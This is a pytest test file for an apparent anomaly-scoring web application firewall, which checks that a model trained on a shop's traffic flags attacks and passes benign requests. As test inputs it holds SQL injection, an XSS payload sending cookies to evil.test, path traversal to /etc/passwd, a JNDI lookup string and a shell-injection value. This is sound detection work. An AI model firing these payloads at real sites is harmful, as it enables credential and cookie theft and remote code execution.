"""Requests held against the model of a small shop."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from urllib.parse import quote

import numpy as np
import pytest
from cnaf.learner.fit import FitResult
from cnaf.models.calibration import category_of
from cnaf.models.exchange import Exchange, Request
from cnaf.models.features import COLUMNS
from cnaf.models.fields import Field, Location
from cnaf.models.kernels import CHANNELS, MEASURES, NOVELTIES, SURPRISE_CAP, fuse, surprise
from cnaf.models.parsing import RequestParser
from cnaf.models.request_model import (
    FIRM_BITS,
    VALUE_CAP,
    RequestModel,
    Score,
    Scorer,
    is_learned,
    without_host,
)
from cnaf.models.scoring import RICH, TAIL_GROUPS
from cnaf.models.structure import News, news_of
from cnaf.models.value_types import ValueType
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.shop import request, shop_fit, shop_samples, shop_traffic

INJECTION = "1' UNION SELECT user, password FROM users-- -"
SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"


def newness(found: Score) -> dict[str, float]:
    """What is new about a request, in bits, where anything is."""
    return {name: bits for name, bits in zip(NOVELTIES, found.news, strict=True) if bits}


def alarms(scorer: Scorer, traffic: list[Exchange], rate: float) -> float:
    """The share of requests that reach the threshold of their category, by what may block."""
    parser, thresholds = RequestParser(), scorer.model.calibration.thresholds(rate)
    reached = []
    for exchange in traffic:
        parsed = parser.parse(exchange.request)
        found = scorer.score(parsed)
        reached.append(scorer.blockable(parsed, found) >= thresholds[found.category])
    return float(np.mean(reached))


@pytest.fixture(scope="module")
def fitted() -> FitResult:
    return shop_fit()


@pytest.fixture(scope="module")
def scorer(fitted: FitResult) -> Scorer:
    return Scorer(fitted.model)


@pytest.fixture(scope="module")
def trained(scorer: Scorer) -> np.ndarray:
    """The score of every request that the model learned from."""
    return np.array([score(scorer, exchange.request).score for exchange in shop_traffic()])


def score(scorer: Scorer, made: Request) -> Score:
    return scorer.score(RequestParser().parse(made))


def quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


class TestAttacks:
    @pytest.mark.parametrize(
        "target",
        [
            f"/products?page={quoted(INJECTION)}&sort=price",
            f"/products?page=1&sort={quoted(SCRIPT)}",
            f"/products/{quoted(INJECTION)}",
            f"/orders/{quoted('../../../../etc/passwd')}",
            f"/search?q={quoted(SCRIPT)}",
            f"/static/app.js?v={quoted('${jndi:ldap://x.test/a}')}",
            f"/products?page={quoted(';cat /etc/passwd|sh')}&sort=price",
        ],
    )
    def test_an_injection_scores_above_all_that_was_learned(
        self, scorer: Scorer, trained: np.ndarray, target: str
    ) -> None:
        assert score(scorer, request(target=target)).score > trained.max()

    @pytest.mark.parametrize(
        ("content_type", "path", "body"),
        [
            (b"application/json", "/api/cart", b'{"items":[{"sku":"%s","count":1}],"gift":true}'),
            (b"application/x-www-form-urlencoded", "/login", b"email=%s&password=0123456789"),
            (
                b"multipart/form-data; boundary=XyZ", "/profile",
                b'--XyZ\r\nContent-Disposition: form-data; name="born"\r\n\r\n%s\r\n--XyZ--\r\n',
            ),
        ],
    )  # fmt: skip
    def test_in_every_kind_of_body(
        self, scorer: Scorer, trained: np.ndarray, content_type: bytes, path: str, body: bytes
    ) -> None:
        made = request("POST", path, body % INJECTION.encode(), content_type)
        assert score(scorer, made).score > trained.max()

    @pytest.mark.parametrize("padding", [1, 10, 60])
    def test_benign_text_around_an_attack_does_not_hide_it(
        self, fitted: FitResult, scorer: Scorer, padding: int
    ) -> None:
        text = "small red shirt " * padding
        calm = score(scorer, request(target=f"/search?q={quoted(text)}"))
        padded = score(scorer, request(target=f"/search?q={quoted(text + SCRIPT + ' ' + text)}"))
        assert padded.score > calm.score + 3
        assert padded.score >= fitted.model.calibration.thresholds(0.01)[padded.category]

    def test_encoding_twice_does_not_hide_it(self, scorer: Scorer, trained: np.ndarray) -> None:
        twice = quoted(quoted(INJECTION))
        assert score(scorer, request(target=f"/products?page={twice}")).score > trained.max()

    def test_the_field_at_fault_has_the_worst_value(self, scorer: Scorer) -> None:
        parsed = RequestParser().parse(
            request(target=f"/products?page={quoted(INJECTION)}&sort=price")
        )
        found = scorer.score(parsed)
        worst = parsed.fields[found.indices[int(np.argmax(found.values))]]
        assert worst.label == "query:page"


class TestBenign:
    def test_what_was_learned_scores_low(
        self, fitted: FitResult, scorer: Scorer, trained: np.ndarray
    ) -> None:
        assert alarms(scorer, list(shop_traffic()), 0.05) < 0.02
        # Learned requests fit better than the same ones did when they were held out.
        assert np.median(trained) <= np.median(fitted.blockable)

    @pytest.mark.parametrize(("rate", "most"), [(0.05, 0.03), (0.02, 0.01), (0.001, 0.0)])
    def test_traffic_of_other_sessions_stays_within_the_rate(
        self, scorer: Scorer, rate: float, most: float
    ) -> None:
        assert alarms(scorer, list(shop_traffic(30, seed=9)), rate) <= most

    @pytest.mark.parametrize(
        ("made", "new"),
        [
            (request(target="/never-seen"), {"path"}),
            (request(target="/products/7/edit"), {"path"}),
            (request(target="/orders"), {"path"}),
            (request("DELETE", "/products/7"), {"method"}),
            (request("POST", "/search"), {"method"}),
            (request(target="/products?page=1"), {"composition"}),
            (request(target="/products?sort=name&page=1"), {"composition"}),
            (request(target="/products?page=1&sort=name&sort=price"), {"composition"}),
            (request(target="/products/7?q=hat"), {"composition"}),
            (request(target="/products?page=1&sort=price&debug=true"), {"composition", "name"}),
            (request(target="/nowhere?debug=true"), {"path", "name"}),
            (request("PUT", "/search?debug=true"), {"method", "name"}),
            (request("POST", "/never-seen"), {"path"}),
            (request("PURGE", "/never-seen"), {"path", "method"}),
            (request(target="/products/7"), set()),
            (request(target="/search?q=hat"), set()),
        ],
    )  # fmt: skip
    def test_what_is_new_is_told_in_bits_of_its_place(
        self, scorer: Scorer, made: Request, new: set[str]
    ) -> None:
        found, model = score(scorer, made), scorer.model
        told = newness(found)
        assert set(told) == new
        assert (found.endpoint is None) == bool(new & {"path", "method"})
        route = made.target.decode().partition("?")[0]
        answered: Counter[str] = Counter()
        for e in model.endpoints:
            answered[e.method] += e.sessions
        expected = {
            "path": model.tree.match(route).news,
            "name": model.names.bits,
            "composition": found.endpoint.news.bits if found.endpoint else 0.0,
            "method": max(
                next(
                    (
                        News(e.sessions, int(e.sessions == 1)).bits
                        for e in model.endpoints
                        if e.template == found.template
                    ),
                    0.0,
                ),
                # Where no endpoint answers the method, all of them speak.
                0.0 if made.method in answered else news_of(answered.values()).bits,
            ),
        }
        assert told == {name: expected[name] for name in new}
        # Its surprise stands in the dense features and, in sum, in the score's own channel.
        columns = found.out[-len(COLUMNS) :][COLUMNS.index("new-path") :][: len(NOVELTIES)]
        assert columns.tolist() == found.novelties.tolist()
        assert [z > 0 for z in found.novelties.tolist()] == [bool(bits) for bits in found.news]

    def test_a_method_that_no_endpoint_answers_is_more_news_than_one_of_another(
        self, scorer: Scorer
    ) -> None:
        elsewhere = score(scorer, request("POST", "/search?q=hat"))
        nowhere = score(scorer, request("DELETE", "/search?q=hat"))
        assert nowhere.news[1] > elsewhere.news[1] > 0
        assert nowhere.score >= elsewhere.score

    def test_lists_are_as_long_as_they_are(self, scorer: Scorer) -> None:
        items = b",".join([b'{"sku":"hat-123","count":1}'] * 9)
        body = b'{"items":[' + items + b'],"gift":true}'
        assert newness(score(scorer, request("POST", "/api/cart", body, b"application/json"))) == {}

    def test_an_unseen_field_is_named(self, scorer: Scorer) -> None:
        parsed = RequestParser().parse(request(target="/products?page=1&sort=price&debug=true"))
        found = scorer.score(parsed)
        assert [parsed.fields[i].label for i in found.unseen] == ["query:debug"]

    def test_a_known_field_at_another_endpoint_has_no_new_name(self, scorer: Scorer) -> None:
        assert score(scorer, request(target="/products/7?q=hat")).unseen == []


class TestContract:
    @settings(deadline=None, max_examples=60)
    @given(st.lists(st.integers(0, 400), min_size=1, max_size=8), st.integers(0, 400))
    def test_a_score_depends_on_its_request_alone(self, before: list[int], which: int) -> None:
        traffic = shop_traffic()
        parser, scorer = RequestParser(), Scorer(shop_fit().model)
        for index in before:
            scorer.score(parser.parse(traffic[index].request))
        found = scorer.score(parser.parse(traffic[which].request))
        fresh = score(Scorer(shop_fit().model), traffic[which].request)
        assert found.score == fresh.score
        assert found.out.tobytes() == fresh.out.tobytes()

    @settings(deadline=None, max_examples=100)
    @given(st.binary(max_size=200), st.binary(max_size=300), st.binary(max_size=30))
    def test_any_request_has_a_finite_score(
        self, target: bytes, body: bytes, content_type: bytes
    ) -> None:
        headers = ((b"content-type", content_type), (b"cookie", target))
        found = score(Scorer(shop_fit().model), Request("POST", target, headers, body, len(body)))
        assert np.isfinite(found.score)
        assert found.score >= 0
        assert 0 < found.forest <= 1
        assert np.isfinite(found.out).all()

    def test_an_empty_request_has_a_score(self, scorer: Scorer) -> None:
        found = score(scorer, Request("", b"", ()))
        assert found.surprises.shape == (1, len(MEASURES))
        assert np.isfinite(found.score)

    def test_long_values_are_walked_up_to_the_cap(self, scorer: Scorer) -> None:
        one = score(scorer, request(target="/search?q=" + "a" * VALUE_CAP))
        two = score(scorer, request(target="/search?q=" + "a" * (VALUE_CAP + 9_000)))
        assert one.values.tolist() == two.values.tolist()

    def test_scores_are_float32_so_that_ties_stay(self, scorer: Scorer) -> None:
        found = score(scorer, request(target="/search?q=hat"))
        assert float(np.float32(found.score)) == found.score

    @pytest.mark.parametrize(
        ("field", "learned"),
        [
            (Field(Location.HEADER, "user-agent", b""), False),
            (Field(Location.HEADER, "sec-fetch-mode", b""), False),
            (Field(Location.HEADER, "x-api-version", b""), True),
            (Field(Location.FILE, "avatar", b""), False),
            (Field(Location.COOKIE, "host", b""), True),
        ],
    )
    def test_what_describes_the_client_is_not_learned(self, field: Field, learned: bool) -> None:
        assert is_learned(field.location, field.name) is learned

    def test_a_model_holds_no_value_of_its_traffic(self, fitted: FitResult) -> None:
        model = fitted.model
        held = b"".join(
            array.tobytes()
            for array in (model.table.tags, model.table.bits, model.escapes, model.seen,
                          model.longest, model.shortest, model.scales, model.tail_points,
                          *(category.scores for category in model.calibration.categories))
        ) + repr((model.profiles, model.endpoints, model.tree.templates())).encode()  # fmt: skip
        parser = RequestParser()
        for exchange in shop_traffic():
            for field in parser.parse(exchange.request).fields[1:]:
                if len(field.value) > 9:
                    assert field.value not in held


class TestBlockable:
    """What may block leaves out news that the image shows all the time; values stay."""

    def blockable(self, scorer: Scorer, made: Request) -> tuple[float, Score]:
        parsed = RequestParser().parse(made)
        found = scorer.score(parsed)
        return scorer.blockable(parsed, found), found

    def test_a_known_endpoint_keeps_its_score(self, scorer: Scorer) -> None:
        part, whole = self.blockable(scorer, request(target="/search?q=" + quote(INJECTION)))
        assert part == whole.score

    @pytest.mark.parametrize(
        ("page", "rate"), [("/contact", 0.05), ("/help/returns", 0.05), ("/about-us/story", 0.01)]
    )
    def test_a_forgotten_page_is_ordinary_and_an_attack_on_it_is_not(
        self, fitted: FitResult, scorer: Scorer, page: str, rate: float
    ) -> None:
        thresholds = fitted.model.calibration.thresholds(rate)
        part, whole = self.blockable(scorer, request(target=page))
        assert part < thresholds[whole.category]
        assert part < whole.score
        attacked = request(target=f"{page}?q={quote(INJECTION)}")
        part, whole = self.blockable(scorer, attacked)
        assert part >= thresholds[whole.category]

    @pytest.mark.parametrize(
        "made",
        [
            request(target="/products?page=1"),
            request("DELETE", "/products/7"),
            request(target="/search?q=hat&debug=1"),
        ],
    )
    def test_news_that_is_not_firm_is_left_out(self, scorer: Scorer, made: Request) -> None:
        part, found = self.blockable(scorer, made)
        assert 0 < max(found.news) < FIRM_BITS
        assert part < found.score
        model = scorer.model
        expected = fuse(
            found.values, np.zeros(len(NOVELTIES), np.float32), model.tail_points,
            model.tail_slopes, found.forest, np.empty(len(CHANNELS)),
        )  # fmt: skip
        # A new endpoint loses the words of its path, too; none of these is on a new path.
        assert part == pytest.approx(float(expected), abs=0.3)
        assert part <= float(expected)

    def test_firm_news_stays(self, fitted: FitResult) -> None:
        """In an image that shows next to nothing new, what is new is an attack's likeliest sign."""
        settled = replace(fitted.model, names=News(4_000, 1))
        part, found = self.blockable(Scorer(settled), request(target="/search?q=hat&debug=1"))
        assert found.news[3] >= FIRM_BITS > found.news[2] > 0
        model = settled
        only_name = np.where(np.arange(len(NOVELTIES)) == 3, found.novelties, 0).astype(np.float32)
        assert part == float(
            fuse(found.values, only_name, model.tail_points, model.tail_slopes, found.forest,
                 np.empty(len(CHANNELS)))
        )  # fmt: skip

    def test_of_a_forgotten_path_only_syntax_counts(self, scorer: Scorer) -> None:
        words, found = self.blockable(scorer, request(target="/zqxjkv-wqzxv/jqxzk-vvwq"))
        syntax, _ = self.blockable(scorer, request(target="/<zq>$(x)/'or'1"))
        assert found.news[0] < FIRM_BITS
        assert syntax > words + 1


class TestCategory:
    """What a request is held against: has it a body, and is its oddest value free text."""

    @pytest.mark.parametrize(
        ("made", "body", "text"),
        [
            (request(target="/"), False, False),
            (request(target="/products?page=1'--&sort=name"), False, False),
            (request("POST", "/login", b"email=a%27--&password=0123456789"), True, False),
            (
                request("POST", "/reviews", b"rating=3&title=nice&text=%3Cp%3E%3Bx%7C%28y%29"),
                True, True,
            ),
            (request("POST", "/reviews", b"rating=3%27--&title=nice&text=%3Cp%3Ered"), True, False),
            # A name that the image never showed is of the kind of its value.
            (request(target="/products?page=1&sort=name&why=%3Cp%3E%3Cb+x%3D(y)%3E%3Cu%3E"),
             False, True),
        ],
    )  # fmt: skip
    def test_is_told_by_body_and_oddest_value(
        self, scorer: Scorer, made: Request, body: bool, text: bool
    ) -> None:
        assert score(scorer, made).category == category_of(body, text)

    @settings(deadline=None, max_examples=60)
    @given(st.integers(0, 300))
    def test_is_that_of_the_value_with_the_highest_score(self, which: int) -> None:
        scorer = Scorer(shop_fit().model)
        parsed = RequestParser().parse(shop_traffic(30, seed=9)[which].request)
        found = scorer.score(parsed)
        _, types, _ = scorer.related(parsed)
        rich = TAIL_GROUPS[types[int(np.argmax(found.values))]] == RICH
        assert found.category == category_of(parsed.body_bytes > 0, bool(rich))

    def test_a_fit_tells_it_alike_out_of_fold(self, fitted: FitResult, scorer: Scorer) -> None:
        """Mostly: the folds have seen less than the model that scores now."""
        now = [
            score(scorer, shop_traffic()[i].request).category
            for i in shop_samples().distinct().tolist()
        ]
        assert np.mean(np.array(now) // 2 == fitted.categories // 2) == 1.0
        assert np.mean(np.array(now) == fitted.categories) > 0.9


class TestParts:
    """What a reference is made from is what a score is made from."""

    @settings(deadline=None, max_examples=80)
    @given(st.integers(0, 300), st.booleans())
    def test_related_measures_give_the_surprises_of_the_score(
        self, which: int, attacked: bool
    ) -> None:
        model = shop_fit().model
        scorer, made = Scorer(model), shop_traffic(30, seed=9)[which].request
        if attacked:
            made = replace(made, target=made.target + b"?q=" + quote(INJECTION).encode())
        parsed = RequestParser().parse(made)
        found = scorer.score(parsed)
        relative, types, known = scorer.related(parsed)
        assert relative.shape == found.surprises.shape
        assert relative.dtype == np.float32
        assert len(types) == len(known) == len(found.indices)
        for position, index in enumerate(found.indices):
            field = parsed.fields[index]
            profile = next((p for p in model.profiles if (p.location, p.name) == field[:2]), None)
            assert bool(known[position]) == (profile is not None and not profile.thin)
            if profile is not None:
                assert types[position] == profile.kind
            for measure in range(len(MEASURES)):
                row = TAIL_GROUPS[types[position]] * len(MEASURES) + measure
                expected = surprise(
                    relative[position, measure], model.tail_points[row], model.tail_slopes[row]
                )
                assert found.surprises[position, measure] == pytest.approx(
                    min(SURPRISE_CAP, expected), abs=1e-4
                )

    @settings(deadline=None, max_examples=80)
    @given(st.integers(0, 300), st.sampled_from(["", "/new-page", "/products/7/edit?debug=1"]))
    def test_channels_under_their_tails_give_the_score(self, which: int, elsewhere: str) -> None:
        model = shop_fit().model
        scorer, made = Scorer(model), shop_traffic(30, seed=9)[which].request
        if elsewhere:
            made = replace(made, target=elsewhere.encode())
        found = scorer.score(RequestParser().parse(made))
        channels = scorer.channels(found)
        assert channels.shape == (len(CHANNELS),)
        assert channels[0] == pytest.approx(max(found.values, default=0.0), abs=1e-5)
        assert channels[1] == pytest.approx(float(found.novelties.sum()), abs=1e-5)
        assert channels[2] >= channels[0] + channels[1] - 1e-5
        first = len(model.tail_points) - len(CHANNELS)
        told = [
            surprise(channel, model.tail_points[first + k], model.tail_slopes[first + k])
            for k, channel in enumerate(channels)
        ]
        assert found.score == pytest.approx(min(SURPRISE_CAP, max(0.0, *told)), abs=1e-5)

    @settings(deadline=None, max_examples=60)
    @given(st.integers(0, 300))
    def test_where_nothing_is_new_all_of_the_score_may_block(self, which: int) -> None:
        scorer = Scorer(shop_fit().model)
        parsed = RequestParser().parse(shop_traffic(30, seed=9)[which].request)
        found = scorer.score(parsed)
        part = scorer.blockable(parsed, found)
        assert part == found.score if not any(found.news) else part <= found.score

    def test_a_request_without_a_scored_value_has_channels(self, scorer: Scorer) -> None:
        empty = Score(0.0, 0.5, 0, "GET", "/", None, (0.0,) * 4, [], [],
                      np.zeros(len(NOVELTIES) + len(COLUMNS), np.float32))  # fmt: skip
        assert scorer.channels(empty)[:2].tolist() == [0.0, 0.0]


class TestSpeaksAgainst:
    """What a medium rule's match means in a field: by what benign values of it are known."""

    RULE = "cnaf-test-1"

    def say(self, model: RequestModel, made: Request, label: str) -> bool | None:
        parsed, scorer = RequestParser().parse(made), Scorer(model)
        field = next(f for f in parsed.fields if f.label == label)
        return scorer.speaks_against(self.RULE, field, scorer.score(parsed))

    def changed(self, model: RequestModel, name: str, **entries: object) -> RequestModel:
        """The model with other entries of one profile."""
        profiles = tuple(
            replace(p, **entries) if p.name == name else p  # type: ignore[arg-type]
            for p in model.profiles
        )
        return replace(model, profiles=profiles)

    def test_a_plain_field_that_never_set_it_off(self, fitted: FitResult) -> None:
        assert self.say(fitted.model, request(target="/search?q=hat"), "query:q") is True

    def test_a_field_whose_benign_values_set_it_off(self, fitted: FitResult) -> None:
        marked = self.changed(fitted.model, "q", marks=frozenset((self.RULE,)))
        assert self.say(marked, request(target="/search?q=hat"), "query:q") is False
        other = self.changed(fitted.model, "q", marks=frozenset(("cnaf-test-2",)))
        assert self.say(other, request(target="/search?q=hat"), "query:q") is True

    @pytest.mark.parametrize(("sessions", "said"), [(0, None), (2, None), (3, True), (40, True)])
    def test_a_field_of_few_sessions(
        self, fitted: FitResult, sessions: int, said: bool | None
    ) -> None:
        thin = self.changed(fitted.model, "q", sessions=sessions)
        assert self.say(thin, request(target="/search?q=hat"), "query:q") is said

    @pytest.mark.parametrize("kind", ["MARKUP", "CODE", "BINARY"])
    @pytest.mark.parametrize(("sessions", "said"), [(3, None), (19, None), (20, True)])
    def test_a_field_of_code_by_design_must_stay_silent_longer(
        self, fitted: FitResult, kind: str, sessions: int, said: bool | None
    ) -> None:
        model = self.changed(fitted.model, "q", sessions=sessions, kind=ValueType[kind])
        assert self.say(model, request(target="/search?q=hat"), "query:q") is said

    @pytest.mark.parametrize(
        ("made", "label"),
        [
            (request(target="/search?debug=1"), "query:debug"),
            (request(target="/nowhere?q=hat"), "query:q"),
            (request("PUT", "/search?q=hat"), "query:q"),
        ],
    )
    @pytest.mark.parametrize(("names", "said"), [(News(62, 1), True), (News(61, 1), None)])
    def test_what_is_new_to_an_image_that_is_known_well(
        self, fitted: FitResult, made: Request, label: str, names: News, said: bool | None
    ) -> None:
        # 5 bits: one sighting of a name in 32 was of a new one.
        assert self.say(replace(fitted.model, names=names), made, label) is said


class TestOthers:
    """What a production site has and CI had not: another name, cookies of others, proxies."""

    @pytest.mark.parametrize("scheme", ["http", "https"])
    def test_the_name_of_the_site_is_neutral(self, scheme: str) -> None:
        texts = []
        for host in (b"127.0.0.1:9080", b"www.shop.example"):
            target = b"/search?q=" + scheme.encode() + b"://" + host + b"/a&w=" + host
            made = Request("GET", target, ((b"host", host),))
            parsed = RequestParser().parse(made)
            texts.append([without_host(field.value, parsed.host) for field in parsed.fields[1:3]])
        assert texts[0] == texts[1] == [b"//host/a", b"host"]

    def test_a_payload_in_the_host_header_is_no_name(self) -> None:
        made = Request("GET", b"/search?q=1'%20OR%201=1", ((b"host", b"1' OR 1=1"),))
        assert RequestParser().parse(made).host == b""

    @given(st.binary(max_size=80), st.binary(max_size=12))
    def test_a_neutral_value_never_grows(self, value: bytes, host: bytes) -> None:
        assert len(without_host(value + host + value, host)) <= len(value + host + value)

    def test_a_site_scores_alike_under_any_name(self, scorer: Scorer) -> None:
        found = []
        for host in ("127.0.0.1:8080", "a-much-longer-name.shop.example"):
            target = f"/search?q=http://{host}/products"
            made = Request("GET", target.encode(), ((b"host", host.encode()),))
            found.append(score(scorer, made))
        assert found[0].values.tolist() == found[1].values.tolist()

    def test_unknown_cookies_and_headers_do_not_count(self, scorer: Scorer) -> None:
        plain = request(target="/search?q=hat")
        headers = (*plain.headers, (b"x-edge-trace", b"<<?>>"), (b"cookie", b"_ga=GA1.2.3;z=%7B"))
        more = Request("GET", plain.target, headers)
        one, two = score(scorer, plain), score(scorer, more)
        assert one.values.tolist() == two.values.tolist()
        assert two.unseen == []
